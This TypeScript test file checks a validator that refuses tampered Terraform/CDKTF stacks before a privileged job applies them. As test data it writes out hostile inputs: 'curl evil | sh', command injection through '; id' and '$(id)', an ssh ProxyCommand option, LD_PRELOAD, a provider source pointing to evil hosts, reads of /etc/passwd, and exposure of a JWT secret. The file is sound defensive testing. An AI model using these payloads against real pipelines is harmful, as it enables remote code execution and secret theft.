import { execFileSync, spawnSync } from "node:child_process";
import { appendFileSync, cpSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { beforeAll, describe, expect, test } from "vitest";
import { scratch } from "./host-shell.js";
import type { Block, LocalExec, Synthesized } from "./scope.js";

// What a job that has the key refuses to give to Terraform.

const root = fileURLToPath(new URL("../../", import.meta.url));
const base = scratch("check-stack");
const trusted = path.join(base, "stacks/prod");
let count = 0;

/** Settings that a pull request may change, each another one than by default. */
const OTHERS = `
memory: 500M
networks: { backend: { create: { subnet: 172.30.2.0/24, internal: true } }, frontend: web }
caddy: { sitesDirectory: /opt/acme/configs/caddy/sites, snippets: [] }
environment: { NC_SMTP_FROM: "it's \\"one\\" $HOME %{y} a@example.com" }
onDestroy: { database: delete, data: delete, backups: delete }
consumers:
  n8n: { role: viewer, bases: { "Base (one)": editor }, recreate: "docker compose -f /opt/it's/compose.yml up -d" }
  own: { ownFile: true }
backups: { schedule: "Mon..Fri 03:00", keep: 3 }
`;

beforeAll(() => {
  const synthesize = (env: NodeJS.ProcessEnv) => {
    const all = { ...process.env, CDKTF_OUTDIR: base, ...env };
    execFileSync(path.join(root, "node_modules/.bin/tsx"), ["main.ts"], { cwd: root, env: all, stdio: "pipe" });
  };
  synthesize({});
  const prod = readFileSync(path.join(root, "environments/prod.yaml"), "utf8");
  const [head] = prod.split(/^# Directory of the project/m);
  const environments = path.join(base, "environments");
  mkdirSync(environments);
  writeFileSync(path.join(environments, "prod.yaml"), `${head}${OTHERS}`);
  synthesize({ NOCODB_ENVIRONMENTS: environments, CDKTF_OUTDIR: path.join(base, "others") });
}, 120_000);

/** A copy of the trusted stack, and what the check says of it after a change to its folder. */
function refusalsAfter(change: (folder: string) => void, against = trusted): string[] {
  const folder = path.join(base, `changed-${count++}`);
  cpSync(trusted, folder, { recursive: true });
  change(folder);
  const argv = [path.join(root, "commands/check-stack.mjs"), folder, against];
  const { status, stdout, stderr } = spawnSync(process.execPath, argv, { encoding: "utf8" });
  expect([status, stdout]).toEqual([stderr === "" ? 0 : 1, ""]);
  return stderr.split("\n").filter((line) => line !== "");
}

type Stack = Synthesized & Record<string, Block>;

/** The same after a change to its JSON. */
const changed = (change: (json: Stack) => void) =>
  refusalsAfter((folder) => {
    const file = path.join(folder, "cdk.tf.json");
    const json = JSON.parse(readFileSync(file, "utf8")) as Stack;
    change(json);
    writeFileSync(file, JSON.stringify(json));
  });

const site = (json: Stack) => json.resource.null_resource!.nocodb_site!;
const run = (json: Stack) => (site(json).provisioner as { "local-exec": LocalExec }[])[0]!;
const command = (edit: (command: string) => string) => (json: Stack) => {
  const exec = run(json)["local-exec"] as { command: string };
  exec.command = edit(exec.command);
};

const look = (edit: (command: string) => string) => (json: Stack) => {
  const program = json.data.external!.host_observed!.program as string[];
  program[2] = edit(program[2]!);
};

test("a stack that this app makes, also with other settings, is let through", () => {
  expect(refusalsAfter(() => {})).toEqual([]);
  const others = path.join(base, "others/stacks/prod");
  expect(readFileSync(path.join(others, "cdk.tf.json"), "utf8")).toContain("Base (one)");
  expect(refusalsAfter((folder) => cpSync(others, folder, { recursive: true }))).toEqual([]);
  const preprod = path.join(base, "stacks/preprod");
  expect(refusalsAfter((folder) => cpSync(preprod, folder, { recursive: true }), preprod)).toEqual([]);
  expect(changed((json) => Object.assign(json.resource.docker_container!.nocodb_container!, { memory: 500 }))).toEqual(
    [],
  );
});

const leads = "is not as in the trusted stack: what decides where state and connection lead is merged first";
const programs = "null_resource.nocodb_site: runs something else than host scripts over the trusted SSH command";
const probe = "data.external.host_observed: runs something else than the probe";

describe("a stack is refused for", () => {
  test.each<[string, (json: Stack) => void, string]>([
    [
      "another resource type",
      (json) => Object.assign(json.resource, { local_file: { x: {} } }),
      "resource.local_file: is no resource type of the list",
    ],
    [
      "another data source",
      (json) => Object.assign(json.data, { http: { x: {} } }),
      "data.http: is no data source of the list",
    ],
    [
      "a second program at plan time",
      (json) => Object.assign(json.data.external!, { x: { program: ["sh", "-c", "id"] } }),
      "data.external.x: runs something else than the probe",
    ],
    ["another provider", (json) => Object.assign(json.provider, { local: [{}] }), `provider: ${leads}`],
    [
      "a provider from elsewhere",
      (json) => Object.assign(json.terraform.required_providers.null!, { source: "evil/null" }),
      `terraform: ${leads}`,
    ],
    ["another backend", (json) => Object.assign(json.terraform.backend, { http: {} }), `terraform: ${leads}`],
    [
      "another host",
      (json) => Object.assign(json.provider.docker![0]!, { host: "ssh://me@evil:22" }),
      `provider: ${leads}`,
    ],
    [
      "a module",
      (json) => Object.assign(json, { module: { x: { source: "evil" } } }),
      "module: is no section of a stack",
    ],
    ["an import", (json) => Object.assign(json, { import: [{}] }), "import: is no section of a stack"],
    ["another command", command(() => "curl evil | sh"), programs],
    ["a command behind the first", command((text) => `${text}; id`), programs],
    ["a command on a line of its own", command((text) => `${text}\nid`), programs],
    ["a command within the first", command((text) => text.replace("common.sh", "common.sh $(id)")), programs],
    ["a script from elsewhere", command((text) => text.replace("common.sh", "../../../x.sh")), programs],
    ["another program in the place of ssh", command((text) => text.replace("-- ssh", "-- /tmp/ssh")), programs],
    [
      "an option that starts a program",
      command((text) => text.replace("-o BatchMode=yes", "-o ProxyCommand=id")),
      programs,
    ],
    ["another command on the host", command((text) => text.replace("sudo -n sh -s", "id")), programs],
    ["an expression in a command", command((text) => text.replace("common.sh", '${"common.sh"}')), programs],
    ["an escaped expression behind which one stands", command((text) => `${text} $$\${"$"}{x}`), programs],
    ["another interpreter", (json) => Object.assign(run(json)["local-exec"], { interpreter: ["evil"] }), programs],
    ["another folder", (json) => Object.assign(run(json)["local-exec"], { working_dir: "/" }), programs],
    [
      "a variable that the shell or ssh would follow",
      (json) => Object.assign(run(json)["local-exec"].environment, { LD_PRELOAD: "x" }),
      programs,
    ],
    [
      "a provisioner of another kind",
      (json) => Object.assign(site(json), { provisioner: [{ "remote-exec": { inline: ["id"] } }] }),
      programs,
    ],
    [
      "a connection",
      (json) => Object.assign(site(json), { connection: { host: "evil" } }),
      "null_resource.nocodb_site: has a connection of its own",
    ],
    [
      "another probe",
      (json) => Object.assign(json.data.external!.host_observed!, { program: ["sh", "-c", "id"] }),
      probe,
    ],
    ["a command behind the probe", look((text) => `${text} | tee /tmp/x`), probe],
    ["an assignment in front of the probe", look((text) => `PATH=/tmp ${text}`), probe],
    [
      "a folder for the probe",
      (json) => Object.assign(json.data.external!.host_observed!, { working_dir: "/" }),
      probe,
    ],
    [
      "a file that it reads",
      (json) => Object.assign(json.output, { x: { value: '${file("/tmp/nocodb-ssh/id")}' } }),
      "output: reads a file that is no host script",
    ],
    [
      "a file under another name of the function",
      (json) => Object.assign(json.output, { x: { value: '${core::file("/etc/passwd")}' } }),
      "output: calls core::file(), which is no function of the list",
    ],
    [
      "a comment that hides what is called",
      (json) => Object.assign(json.locals, { x: '${file /* */ ("/etc/passwd")}' }),
      "locals: has a comment in an expression",
    ],
    [
      "a template from a file",
      (json) => Object.assign(json.locals, { x: ['${templatefile("/x", {})}'] }),
      "locals: calls templatefile(), which is no function of the list",
    ],
    [
      "a secret shown",
      (json) => Object.assign(json.output, { x: { value: "${nonsensitive(var.nocodb_jwt_secret)}" } }),
      "output: calls nonsensitive(), which is no function of the list",
    ],
  ])("%s", (_, change, told) => {
    expect(changed(change)).toContain(`refused: ${told}`);
  });

  test.each<[string, (folder: string) => void, string]>([
    [
      "a changed script",
      (folder) => appendFileSync(path.join(folder, "assets/host_scripts/sh/probe.sh"), "id\n"),
      "assets/host_scripts/sh/probe.sh: is not the file of constructs/host",
    ],
    [
      "a script more",
      (folder) => writeFileSync(path.join(folder, "assets/host_scripts/sh/evil.sh"), "id\n"),
      "assets/host_scripts/sh/evil.sh: is not part of a stack of this app",
    ],
    [
      "a script less",
      (folder) => rmSync(path.join(folder, "assets/host_scripts/sh/worker.sh")),
      "assets/host_scripts/sh/worker.sh: is missing",
    ],
    [
      "a link in the place of a script",
      (folder) => {
        rmSync(path.join(folder, "assets/host_scripts/sh/see.sh"));
        symlinkSync("/etc/passwd", path.join(folder, "assets/host_scripts/sh/see.sh"));
      },
      "assets/host_scripts/sh/see.sh: is neither a file nor a directory",
    ],
    [
      "another Terraform file",
      (folder) => writeFileSync(path.join(folder, "evil.tf"), ""),
      "evil.tf: is not part of a stack of this app",
    ],
    [
      "values for variables",
      (folder) => writeFileSync(path.join(folder, "terraform.tfvars"), ""),
      "terraform.tfvars: is not part of a stack of this app",
    ],
    [
      "settings of Terraform",
      (folder) => writeFileSync(path.join(folder, ".terraformrc"), ""),
      ".terraformrc: is not part of a stack of this app",
    ],
    [
      "providers of its own",
      (folder) => {
        mkdirSync(path.join(folder, ".terraform/providers"), { recursive: true });
        writeFileSync(path.join(folder, ".terraform/providers/x"), "");
      },
      ".terraform/providers/x: is not part of a stack of this app",
    ],
    ["JSON that is none", (folder) => writeFileSync(path.join(folder, "cdk.tf.json"), "{"), "stack: cannot be read"],
  ])("%s", (_, change, told) => {
    expect(refusalsAfter(change)).toContainEqual(expect.stringContaining(`refused: ${told}`));
  });

  test("a trusted stack whose own connection starts a program", () => {
    const options = "-o BatchMode=yes";
    const proxied = (folder: string) => {
      const file = path.join(folder, "cdk.tf.json");
      writeFileSync(file, readFileSync(file, "utf8").replaceAll(options, "-o ProxyCommand=id"));
    };
    const other = path.join(base, "proxied");
    cpSync(trusted, other, { recursive: true });
    proxied(other);
    expect(refusalsAfter(proxied, other)).toEqual([
      "refused: data.external: the trusted stack has no SSH command of this app",
    ]);
  });
});
